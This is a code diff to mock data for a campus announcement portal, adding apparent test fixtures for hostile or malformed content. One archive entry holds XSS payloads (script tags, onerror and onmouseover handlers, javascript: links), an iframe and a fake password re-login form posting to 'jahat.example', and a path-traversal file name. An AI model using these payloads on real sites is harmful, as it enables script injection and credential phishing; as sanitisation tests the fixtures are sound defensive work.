@@ -61,7 +61,11 @@ const CERITA = [
     ringkasan: 'Periksa ruang dan sesi Anda sebelum Senin, 26 Oktober.',
     isi: '<p>Jadwal Ujian Tengah Semester Ganjil 2026/2027 berlaku 26 Oktober sampai 6 November 2026.</p><p>Periksa ruang dan sesi Anda di menu <strong>Jadwal dan Presensi</strong>. Kartu ujian dicetak mandiri.</p>',
     lampiran: [
-      { nama: 'jadwal-uts-ganjil-2026-2027.pdf', url: '/media/jadwal-uts-ganjil-2026-2027.pdf', ukuran: 248_310 },
+      {
+        nama: 'jadwal-uts-ganjil-2026-2027.pdf',
+        url: 'https://gateway.example/media/061001/jadwal-uts-ganjil-2026-2027.pdf',
+        ukuran: 248_310,
+      },
     ],
     isPenting: true,
   },
@@ -101,15 +105,36 @@ const TOPIK = [
 const ARSIP = 996
 const ARSIP_STEP_MS = 2.5 * DAY_MS
 
-const toArsip = (nomor: number): Pengumuman =>
-  toPengumuman({
+/** What campuses write besides: HTML that is none of the portal's, a title without end, no date. */
+const LUAR_BIASA: Readonly<Record<number, Partial<Pengumuman>>> = {
+  990: {
+    judul: '<img src="x" onerror="alert(1)">Pengumuman dari sistem lama <b>(disalin)</b>',
+    ringkasan: '<b onmouseover="alert(1)">Disalin</b> dari situs lama beserta tandanya.',
+    isi: '<style>body{display:none}</style><script>alert(1)</script><img src="x" onerror="alert(1)"><iframe src="https://jahat.example"></iframe><form action="https://jahat.example"><input name="kata_sandi"><button>Masuk ulang</button></form><h2 style="position:fixed" onclick="alert(1)">Pemindahan arsip</h2><p>Arsip pindah ke <a href="javascript:alert(1)">tautan lama</a> dan <a href="https://arsip.arunika.example/2026">situs arsip</a>.</p><table><tr><th colspan="2">Jadwal pindah</th></tr><tr><td>Senin</td><td>08.00 WIB</td></tr></table>',
+    lampiran: [
+      { nama: '../../arsip lama.pdf', url: 'javascript:alert(1)', ukuran: 1200 },
+      { nama: 'arsip-2026.pdf', url: 'https://gateway.example/media/061001/arsip-2026.pdf', ukuran: 1_048_576 },
+    ],
+  },
+  988: {
+    judul:
+      'Perubahan kedua atas ketentuan pelaksanaan perkuliahan, praktikum, ujian, remedial, semester pendek, dan kegiatan kemahasiswaan bagi seluruh mahasiswa program sarjana dan diploma angkatan 2019 sampai dengan 2026',
+    ringkasan: `Ketentuan${'pelaksanaan'.repeat(12)} berlaku sejak ditetapkan.`,
+  },
+  986: { tanggal: null, tanggalPublish: null, judul: 'Pengumuman tanpa tanggal' },
+}
+
+const toArsip = (nomor: number): Pengumuman => ({
+  ...toPengumuman({
     id: nomor,
     kategori: nomor % KATEGORI.length,
     tanggal: toIso(fromTanggal('2026-10-14', '08.00') - (ARSIP - nomor) * ARSIP_STEP_MS),
     judul: `${TOPIK[nomor % TOPIK.length] ?? TOPIK[0]} nomor ${nomor}`,
     ringkasan: `Pengumuman arsip nomor ${nomor}.`,
     isi: `<p>Isi pengumuman arsip nomor ${nomor}.</p>`,
-  })
+  }),
+  ...LUAR_BIASA[nomor],
+})
 
 const NEWEST = Math.max(...CERITA.map(({ idPengumuman }) => Number(idPengumuman)))
 
